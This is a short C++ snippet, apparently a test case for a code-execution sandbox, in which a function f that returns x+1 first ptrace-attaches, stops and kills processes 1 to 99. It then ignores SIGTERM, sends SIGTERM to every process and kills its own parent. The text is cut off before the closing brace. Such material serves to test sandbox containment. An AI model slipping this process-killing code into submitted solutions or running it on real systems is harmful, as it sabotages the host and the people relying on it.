// Tries to end, stop and trace every other process.
#include<assert.h>
#include<bits/stdc++.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>
long f(long x) {
    for (int process = 1; process < 100; ++process)
        if (process != getpid())
            ptrace(PTRACE_ATTACH, process, 0, 0), kill(process, SIGSTOP), kill(process, SIGKILL);
    signal(SIGTERM, SIG_IGN), kill(-1, SIGTERM), kill(getppid(), SIGKILL);
    return x + 1;
